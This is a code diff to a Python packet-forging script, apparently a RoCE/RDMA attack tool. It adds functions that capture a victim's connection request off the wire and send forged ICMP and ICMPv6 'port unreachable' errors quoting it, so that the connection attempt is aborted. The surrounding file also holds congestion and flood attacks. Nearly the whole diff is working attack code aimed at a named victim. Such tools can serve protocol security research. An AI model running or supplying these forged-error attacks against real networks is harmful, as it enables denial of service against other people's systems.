@@ -96,6 +96,22 @@ def req(port, src, dst, header, guid=5, qpn=None, comm_id=None, timeout=20, retr
     return mad(REQ, body.ljust(140, b"\0") + header)
 
 
+def icmp_error(dmac, src, dst, quoted):
+    """From anybody: port unreachable, about this packet (RFC 792, RFC 4443)."""
+    if len(src) == 4:
+        message = b"\3\3\0\0" + bytes(4) + quoted
+        message += bytes(len(message) % 2)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(message), 0, 0, 64, 1, 0, src, dst)
+        ip, sums = ip[:10] + checksum(ip) + ip[12:], message
+    else:
+        message = b"\1\4\0\0" + bytes(4) + quoted
+        message += bytes(len(message) % 2)
+        ip = struct.pack("!IHBB16s16s", 6 << 28, len(message), 58, 64, src, dst)
+        sums = src + dst + struct.pack("!II", len(message), 58) + message
+    kind = b"\x08\0" if len(src) == 4 else b"\x86\xdd"
+    return dmac + b"\x02\0\0\0\0\x99" + kind + ip + message[:2] + checksum(sums) + message[4:]
+
+
 # --- the wire ---
 
 
@@ -105,6 +121,7 @@ class Wire:
         self.s.setsockopt(socket.SOL_SOCKET, 33, 1 << 24)  # SO_RCVBUFFORCE
         self.s.bind((iface, 0))
         self.dmac = dmac
+        self.ip = b""  # the last packet, from its IP header on
         print("ready", flush=True)
 
     def send(self, src, dst, rest, **how):
@@ -127,6 +144,7 @@ class Wire:
             else:
                 continue
             if udp[2:4] == struct.pack("!H", ROCE) and len(udp) >= 20:
+                self.ip = ip
                 yield where[2] != OUTGOING, src, dst, udp[8:]
 
     def mads(self, seconds):
@@ -194,6 +212,38 @@ def attack_congestion(wire, victim, times=50):
                 wire.send(src, dst, bth(CNP, qpn, pkey=0x1234, becn=1) + bytes(16))
             break
     print("notified %d" % (len(qps) * int(times)))
+
+
+def wait_for_request(wire, dst, seconds):
+    """The next REQ of the victim's to that address: its IP header and UDP header, and what begins with the BTH."""
+    for theirs, _, to, attr, _ in wire.mads(seconds):
+        if theirs and to == dst and attr == REQ:
+            at = (20 if len(dst) == 4 else 40) + 8
+            return wire.ip[:at], wire.ip[at:]
+    return None
+
+
+def attack_unreachable(wire, victim, peer):
+    """Says that the peer of a connection that is being made cannot be reached: first as somebody who has seen nothing of it but addresses and
+    ports, then as a router that has."""
+    src, dst = address(victim), address(peer)
+    seen = wait_for_request(wire, dst, 20)
+    if not seen:
+        sys.exit("nobody asks for a connection")
+    head, rest = seen
+    psn = struct.unpack_from("!I", rest, 8)[0]
+    forged = [bth(UD_SEND_ONLY, 1, (psn + n) & 0xFFFFFF) for n in (1, 2, 0x800000)]
+    forged += [bth(UD_SEND_ONLY, 0x1234, psn), bth(UD_SEND_ONLY, 0, psn), bth(4, 1, psn)]
+    for f in forged:
+        for size in (12, len(rest)):
+            wire.s.send(icmp_error(wire.dmac, dst, src, head + (f + rest[12:])[:size]))
+    wire.s.send(icmp_error(wire.dmac, dst, src, head))
+    seen = wait_for_request(wire, dst, 20)
+    if not seen:
+        sys.exit("a forged error has ended it")
+    print("it asks again")
+    head, rest = seen
+    wire.s.send(icmp_error(wire.dmac, dst, src, head + rest[:200]))
 
 
 def attack_flood(wire, victim, ports, seconds):
